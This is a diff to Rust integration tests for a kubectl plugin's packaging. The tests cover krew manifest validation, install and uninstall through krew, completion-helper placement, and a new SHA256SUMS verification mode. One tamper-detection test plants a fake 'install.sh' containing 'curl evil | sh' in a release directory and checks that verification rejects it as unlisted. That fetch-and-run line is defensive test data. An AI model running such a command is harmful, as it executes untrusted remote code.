@@ -1,8 +1,10 @@
 //! Packaging for real: `scripts/package` builds the archive and renders the krew manifest;
-//! krew's own validator (`validate-krew-manifest`, built from the pinned krew module) accepts it,
-//! installing it over HTTP as krew does; the real krew installs it into a temporary KREW_ROOT;
-//! and the real kubectl dispatches to the installed plugin, which finds the plugin.yaml shipped
-//! in the archive next to its real executable through krew's symlink.
+//! krew's own validator (`validate-krew-manifest`, built by scripts/setup from the pinned krew
+//! module) accepts it, installing it over HTTP as krew does; the real krew installs it into a
+//! temporary KREW_ROOT; the real kubectl dispatches to the installed plugin, which finds the
+//! plugin.yaml shipped in the archive next to its real executable through krew's symlink; the
+//! completion helper set up as the caveats say leaves krew working after an uninstall; and
+//! `scripts/package --verify` re-checks every released file against SHA256SUMS.
 //!
 //! The tests package their own debug build (`scripts/package --bin-dir`), so no second cargo
 //! build runs inside `cargo test`.
@@ -24,8 +26,19 @@ fn archive_name() -> String {
     format!("kubectl-myops-v{VERSION}-linux-amd64.tar.gz")
 }
 
+/// The homepage the tests give a manifest whose archives are served over HTTP.
+const HOMEPAGE: &str = "https://myops.example/kubectl-myops";
+
 /// Runs `scripts/package` on the test's debug binaries into `out`, archives served from `url`.
+/// An http(s) `url` is a published release, which needs a homepage: MYOPS_HOMEPAGE is set then.
 fn package(out: &Path, url: &str) -> Run {
+    let r = package_with(out, url, &[]);
+    assert_eq!(r.code, 0, "scripts/package failed: {r:?}");
+    r
+}
+
+/// `scripts/package --bin-dir <test build> --out out` with `env` added; the Run, whatever its exit.
+fn package_with(out: &Path, url: &str, env: &[(&str, &str)]) -> Run {
     let exe = Path::new(env!("CARGO_BIN_EXE_kubectl-myops"));
     let bin_dir = exe.parent().unwrap();
     assert_eq!(
@@ -43,15 +56,48 @@ fn package(out: &Path, url: &str) -> Run {
         ])
         .args(["--plugin-yaml", plugin_yaml.to_str().unwrap()])
         .env("MYOPS_RELEASE_URL", url)
+        .env_remove("MYOPS_HOMEPAGE")
+        .envs(
+            url.starts_with("http")
+                .then_some(("MYOPS_HOMEPAGE", HOMEPAGE)),
+        )
+        .envs(env.iter().copied())
         .output()
         .expect("scripts/package runs");
-    let r = Run {
+    Run {
         code: o.status.code().unwrap_or(-1),
         stdout: text_of(&o.stdout),
         stderr: text_of(&o.stderr),
-    };
-    assert_eq!(r.code, 0, "scripts/package failed: {r:?}");
-    r
+    }
+}
+
+/// A fresh KREW_ROOT as `kubectl krew update` leaves it, without the network: bin/ and the
+/// default plugin index as a git clone (an empty one: `krew list`/`uninstall` refuse to run
+/// without an index, cmd/krew/cmd/root.go checkIndex).
+fn new_krew_root(krew_root: &Path) {
+    std::fs::create_dir_all(krew_root.join("bin")).unwrap();
+    let index = krew_root.join("index/default");
+    std::fs::create_dir_all(&index).unwrap();
+    let o = Command::new("git")
+        .args(["init", "-q"])
+        .current_dir(&index)
+        .output()
+        .expect("git runs");
+    assert!(o.status.success(), "git init: {}", text_of(&o.stderr));
+}
+
+/// The man pages the archive ships: the repository's man/*.1 (`scripts/package --man`).
+fn man_pages() -> Vec<String> {
+    let mut pages: Vec<String> = std::fs::read_dir(root().join("man"))
+        .map(|d| {
+            d.flatten()
+                .map(|e| e.file_name().to_string_lossy().into_owned())
+                .filter(|n| n.ends_with(".1"))
+                .collect()
+        })
+        .unwrap_or_default();
+    pages.sort();
+    pages
 }
 
 /// A minimal HTTP server for the files of `dir` (what a release page would serve).
@@ -90,30 +136,12 @@ fn serve(dir: PathBuf) -> String {
     url
 }
 
-/// Builds krew's manifest validator from the pinned krew module (tests/cluster/k8s), as
-/// scripts/setup builds krew itself; the Go build cache makes this quick after setup.
-fn validator(dir: &Path) -> PathBuf {
-    let out = dir.join("validate-krew-manifest");
-    let o = Command::new("go")
-        .args([
-            "build",
-            "-trimpath",
-            "-o",
-            out.to_str().unwrap(),
-            "sigs.k8s.io/krew/cmd/validate-krew-manifest",
-        ])
-        .current_dir(root().join("tests/cluster/k8s"))
-        .env("GOTOOLCHAIN", "local")
-        .env("CGO_ENABLED", "0")
-        .env("GOFLAGS", "-mod=readonly")
-        .output()
-        .expect("go runs (scripts/setup needs it too)");
-    assert!(
-        o.status.success(),
-        "building validate-krew-manifest: {}",
-        text_of(&o.stderr)
-    );
-    out
+/// krew's manifest validator, built by scripts/setup from the pinned krew module
+/// (sigs.k8s.io/krew/cmd/validate-krew-manifest, the check krew-index runs on a pull request).
+fn validator() -> PathBuf {
+    let v = root().join("target/testbin/validate-krew-manifest");
+    assert!(v.exists(), "{} is missing: run scripts/setup", v.display());
+    v
 }
 
 #[test]
@@ -134,20 +162,27 @@ fn package_makes_an_archive_and_a_manifest_that_krews_validator_accepts() {
         .map(str::to_string)
         .collect();
     files.sort();
-    assert_eq!(
-        files,
-        [
-            "LICENSE",
-            "completions/",
-            "completions/_kubectl-myops",
-            "completions/_kubectl-myops.ps1",
-            "completions/kubectl-myops.bash",
-            "completions/kubectl-myops.fish",
-            "kubectl-myops",
-            "kubectl_complete-myops",
-            "plugin.yaml",
-        ]
-    );
+    let mut want: Vec<String> = [
+        "LICENSE",
+        "completions/",
+        "completions/_kubectl-myops",
+        "completions/_kubectl-myops.ps1",
+        "completions/kubectl-myops.bash",
+        "completions/kubectl-myops.fish",
+        "kubectl-myops",
+        "kubectl_complete-myops",
+        "kubectl_complete-myops.sh",
+        "plugin.yaml",
+    ]
+    .map(String::from)
+    .to_vec();
+    let pages = man_pages();
+    if !pages.is_empty() {
+        want.push("man/".into());
+        want.extend(pages.iter().map(|p| format!("man/{p}")));
+    }
+    want.sort();
+    assert_eq!(files, want);
     let sum = text_of(
         &Command::new("sha256sum")
             .arg(&archive)
@@ -168,10 +203,40 @@ fn package_makes_an_archive_and_a_manifest_that_krews_validator_accepts() {
         "apiVersion: krew.googlecontainertools.github.com/v1alpha2\nkind: Plugin\nmetadata:\n  name: myops\n".to_string(),
         format!("  version: v{VERSION}\n"),
         format!("    uri: {url}/{}\n    sha256: {sum}\n    bin: kubectl-myops\n", archive_name()),
-        "kubectl_complete-myops".to_string(),
+        format!("  homepage: {HOMEPAGE}\n"),
+        "      - {from: kubectl_complete-myops.sh, to: .}\n".to_string(),
     ] {
         assert!(manifest.contains(&want), "manifest lacks {want:?}:\n{manifest}");
     }
+    // What a krew-index reviewer reads: a short one-line shortDescription, a description of
+    // what the plugin does rather than its command list, short caveats.
+    let field = |name: &str| -> Vec<&str> {
+        let mut lines = manifest
+            .lines()
+            .skip_while(|l| !l.starts_with(&format!("  {name}:")));
+        let first = lines
+            .next()
+            .unwrap_or_else(|| panic!("no {name}:\n{manifest}"));
+        let mut v = vec![first];
+        v.extend(lines.take_while(|l| l.is_empty() || l.starts_with("    ")));
+        v
+    };
+    let short = field("shortDescription");
+    assert_eq!(
+        short,
+        ["  shortDescription: Guarded kubectl with undoable, journaled changes"]
+    );
+    let description = field("description").join("\n");
+    assert!(
+        description.contains("SelfSubjectAccessReview") && !description.contains("Commands:"),
+        "{description}"
+    );
+    let caveats = field("caveats");
+    assert!(caveats.len() <= 12, "caveats of {} lines", caveats.len());
+    assert!(
+        !caveats.iter().any(|l| l.contains(".krew}/bin")),
+        "caveats must not put anything into krew's bin directory: {caveats:?}"
+    );
     assert_eq!(
         std::fs::read_to_string(dist.join(format!("{}.sha256", archive_name()))).unwrap(),
         format!("{sum}  {}\n", archive_name())
@@ -186,7 +251,7 @@ fn package_makes_an_archive_and_a_manifest_that_krews_validator_accepts() {
         tools.join("kubectl-krew"),
     )
     .unwrap();
-    let v = validator(t.path());
+    let v = validator();
     let r = run_with(
         &v,
         &[&tools],
@@ -228,7 +293,7 @@ fn krew_installs_the_archive_and_kubectl_runs_the_plugin_with_its_plugin_yaml() 
         ("KREW_ROOT".into(), krew_root.display().to_string()),
         ("KREW_NO_UPGRADE_CHECK".into(), "1".into()),
     ];
-    std::fs::create_dir_all(&krew_bin).unwrap();
+    new_krew_root(&krew_root);
 
     let r = run_with(
         &root().join("target/testbin/krew"),
@@ -243,7 +308,7 @@ fn krew_installs_the_archive_and_kubectl_runs_the_plugin_with_its_plugin_yaml() 
     assert_eq!(r.code, 0, "krew install: {r:?}");
     assert!(r.stderr.contains("Installed plugin: myops"), "{r:?}");
     assert!(
-        r.stderr.contains("Caveats:") && r.stderr.contains("ln -sf"),
+        r.stderr.contains("Caveats:") && r.stderr.contains("~/.local/bin/kubectl_complete-myops"),
         "{r:?}"
     );
     // krew warns only that stdin (not a terminal here) is ignored with --manifest.
@@ -262,6 +327,7 @@ fn krew_installs_the_archive_and_kubectl_runs_the_plugin_with_its_plugin_yaml() 
         "LICENSE",
         "plugin.yaml",
         "kubectl_complete-myops",
+        "kubectl_complete-myops.sh",
         "completions/kubectl-myops.bash",
     ] {
         assert!(store.join(f).exists(), "{f} not installed");
@@ -318,16 +384,212 @@ fn krew_installs_the_archive_and_kubectl_runs_the_plugin_with_its_plugin_yaml() 
         "{r:?}"
     );
 
-    // The caveat's step puts the completion helper next to the plugin; kubectl then uses it.
+    // The caveats' step copies the completion helper's shim into ~/.local/bin (a directory of
+    // the user's on PATH, outside krew's); kubectl then completes through it.
     let step = std::fs::read_to_string(&manifest)
         .unwrap()
         .lines()
-        .find(|l| l.trim_start().starts_with("ln -sf"))
-        .expect("the caveats say how to link kubectl_complete-myops")
+        .find(|l| l.trim_start().starts_with("mkdir -p ~/.local/bin"))
+        .expect("the caveats say how to install kubectl_complete-myops")
         .trim()
         .to_string();
     let r = run_with(Path::new("/bin/sh"), &[], &env, &["-c", &step]);
     assert_eq!(r.code, 0, "{step}: {r:?}");
+    let local_bin = t.path().join("home/.local/bin");
+    assert!(local_bin.join("kubectl_complete-myops").is_file());
+    let kubectl = |args: &[&str]| kubectl_with(&[&krew_bin, &local_bin], &env, args);
     let r = kubectl(&["__complete", "myops", "-n", &ns.0, "get", "pods", ""]);
     assert_eq!(candidates(&r), (vec!["web-1".to_string()], 4), "{r:?}");
+
+    // Uninstall: krew's bin directory is left empty, so krew keeps working (a file left there
+    // made krew 0.4.3 refuse every command), and the shim left on PATH completes nothing.
+    let krew = |args: &[&str]| {
+        run_with(
+            &root().join("target/testbin/krew"),
+            &[&krew_bin],
+            &env,
+            args,
+        )
+    };
+    // Not a terminal: `krew list` prints the plugins' names only (installed from a manifest:
+    // index "detached").
+    let r = krew(&["list"]);
+    assert_eq!(
+        (r.code, r.stdout.as_str()),
+        (0, "detached/myops\n"),
+        "krew list: {r:?}"
+    );
+    let r = krew(&["uninstall", "myops"]);
+    assert_eq!(r.code, 0, "krew uninstall: {r:?}");
+    assert_eq!(std::fs::read_dir(&krew_bin).unwrap().count(), 0);
+    let r = krew(&["list"]);
+    assert_eq!((r.code, r.stdout.as_str()), (0, "\n"), "krew list: {r:?}");
+    let r = run_with(
+        &local_bin.join("kubectl_complete-myops"),
+        &[&krew_bin, &local_bin],
+        &env,
+        &["get", "pods", ""],
+    );
+    assert_eq!(
+        (r.code, r.stdout.as_str(), r.stderr.as_str()),
+        (0, "", ""),
+        "{r:?}"
+    );
+    let r = kubectl(&["__complete", "myops", ""]);
+    assert_eq!(r.code, 0, "{r:?}");
+}
+
+/// Issue 14 item 3: the install notes linked kubectl_complete-myops into $KREW_ROOT/bin; after
+/// `kubectl krew uninstall myops` the link stayed there (dangling) and krew 0.4.3 refused every
+/// command with "krew home outdated" (sigs.k8s.io/krew internal/receiptsmigration: files in
+/// bin/ and no receipts). The real krew, with that old recipe, to keep the reason on record.
+#[test]
+fn completion_link_in_krew_bin_broke_every_krew_command_after_uninstall() {
+    let t = tempfile::tempdir().unwrap();
+    let dist = t.path().join("dist");
+    std::fs::create_dir_all(&dist).unwrap();
+    package(&dist, &format!("file://{}", dist.display()));
+    let krew_root = t.path().join("krew");
+    let krew_bin = krew_root.join("bin");
+    new_krew_root(&krew_root);
+    let env: Vec<(String, String)> = vec![
+        ("HOME".into(), t.path().join("home").display().to_string()),
+        ("KREW_ROOT".into(), krew_root.display().to_string()),
+        ("KREW_NO_UPGRADE_CHECK".into(), "1".into()),
+    ];
+    let krew = |args: &[&str]| {
+        run_with(
+            &root().join("target/testbin/krew"),
+            &[&krew_bin],
+            &env,
+            args,
+        )
+    };
+    let r = krew(&[
+        "install",
+        &format!("--manifest={}", dist.join("myops.yaml").display()),
+        &format!("--archive={}", dist.join(archive_name()).display()),
+    ]);
+    assert_eq!(r.code, 0, "krew install: {r:?}");
+    let old_step = r#"ln -sf "$(dirname "$(readlink -f "${KREW_ROOT:-$HOME/.krew}/bin/kubectl-myops")")/kubectl_complete-myops" "${KREW_ROOT:-$HOME/.krew}/bin/""#;
+    let r = run_with(Path::new("/bin/sh"), &[], &env, &["-c", old_step]);
+    assert_eq!(r.code, 0, "{r:?}");
+    let r = krew(&["uninstall", "myops"]);
+    assert_eq!(r.code, 0, "krew uninstall: {r:?}");
+    let left: Vec<_> = std::fs::read_dir(&krew_bin)
+        .unwrap()
+        .map(|e| e.unwrap().file_name())
+        .collect();
+    assert_eq!(left, ["kubectl_complete-myops"]);
+    let r = krew(&["list"]);
+    assert_eq!(r.code, 1, "{r:?}");
+    assert!(r.stderr.contains("krew home outdated"), "{r:?}");
+}
+
+/// `scripts/package --verify DIR` on what scripts/package wrote: every file matches SHA256SUMS.
+#[test]
+fn verify_accepts_the_release_directory_scripts_package_wrote() {
+    let t = tempfile::tempdir().unwrap();
+    let dist = t.path().join("dist");
+    package(&dist, &format!("file://{}", dist.display()));
+    let sums = std::fs::read_to_string(dist.join("SHA256SUMS")).unwrap();
+    let names: Vec<&str> = sums
+        .lines()
+        .map(|l| l.split_once("  ").unwrap().1)
+        .collect();
+    let archive = archive_name();
+    let archive_sum = format!("{archive}.sha256");
+    assert_eq!(
+        names,
+        [archive.as_str(), archive_sum.as_str(), "myops.yaml"]
+    );
+    let r = verify(&dist);
+    assert_eq!(r.code, 0, "{r:?}");
+    assert_eq!(
+        r.stdout,
+        format!("{archive}: OK\n{archive_sum}: OK\nmyops.yaml: OK\n")
+    );
+    assert!(
+        r.stderr.contains("verified: 3 files match SHA256SUMS"),
+        "{r:?}"
+    );
+}
+
+/// A release whose archive changed after packaging (one byte) must not verify: the archive
+/// differs from SHA256SUMS, from its .sha256 and from the manifest's platform sha256.
+#[test]
+fn verify_fails_on_a_tampered_archive() {
+    let t = tempfile::tempdir().unwrap();
+    let dist = t.path().join("dist");
+    package(&dist, &format!("file://{}", dist.display()));
+    let archive = dist.join(archive_name());
+    let mut bytes = std::fs::read(&archive).unwrap();
+    let mid = bytes.len() / 2;
+    bytes[mid] ^= 0x01;
+    std::fs::write(&archive, bytes).unwrap();
+    let r = verify(&dist);
+    assert_eq!(r.code, 1, "{r:?}");
+    let name = archive_name();
+    for want in [
+        format!("{name}: FAILED (sha256 differs from SHA256SUMS)\n"),
+        format!("{name}.sha256: FAILED (does not match {name})\n"),
+        format!("myops.yaml: FAILED (platform {name}: sha256 "),
+    ] {
+        assert!(r.stdout.contains(&want), "{want:?} missing: {r:?}");
+    }
+    assert!(
+        r.stderr.contains("does not verify: do not install from it"),
+        "{r:?}"
+    );
+}
+
+/// A file added to a release directory, or one listed and gone, fails the check by name.
+#[test]
+fn verify_fails_on_an_unlisted_or_missing_file() {
+    let t = tempfile::tempdir().unwrap();
+    let dist = t.path().join("dist");
+    package(&dist, &format!("file://{}", dist.display()));
+    std::fs::write(dist.join("install.sh"), "curl evil | sh\n").unwrap();
+    std::fs::remove_file(dist.join("myops.yaml")).unwrap();
+    let r = verify(&dist);
+    assert_eq!(r.code, 1, "{r:?}");
+    assert!(
+        r.stdout.contains("install.sh: NOT LISTED in SHA256SUMS\n"),
+        "{r:?}"
+    );
+    assert!(r.stdout.contains("myops.yaml: MISSING\n"), "{r:?}");
+}
+
+/// A manifest for an http(s) release needs a real homepage: packaging one without
+/// MYOPS_HOMEPAGE (or Cargo.toml's homepage) stops with what to set.
+#[test]
+fn package_refuses_a_published_manifest_without_a_homepage() {
+    let t = tempfile::tempdir().unwrap();
+    let dist = t.path().join("dist");
+    // package_with sets MYOPS_HOMEPAGE for http URLs; an empty one is "not set".
+    let r = package_with(
+        &dist,
+        "https://releases.example/myops",
+        &[("MYOPS_HOMEPAGE", "")],
+    );
+    assert_eq!(r.code, 1, "{r:?}");
+    assert!(
+        r.stderr
+            .contains("the manifest has no homepage: set MYOPS_HOMEPAGE"),
+        "{r:?}"
+    );
+    assert!(!dist.join("myops.yaml").exists());
+}
+
+/// Runs `scripts/package --verify dir`.
+fn verify(dir: &Path) -> Run {
+    let o = Command::new(root().join("scripts/package"))
+        .args(["--verify", dir.to_str().unwrap()])
+        .output()
+        .expect("scripts/package runs");
+    Run {
+        code: o.status.code().unwrap_or(-1),
+        stdout: text_of(&o.stdout),
+        stderr: text_of(&o.stderr),
+    }
 }
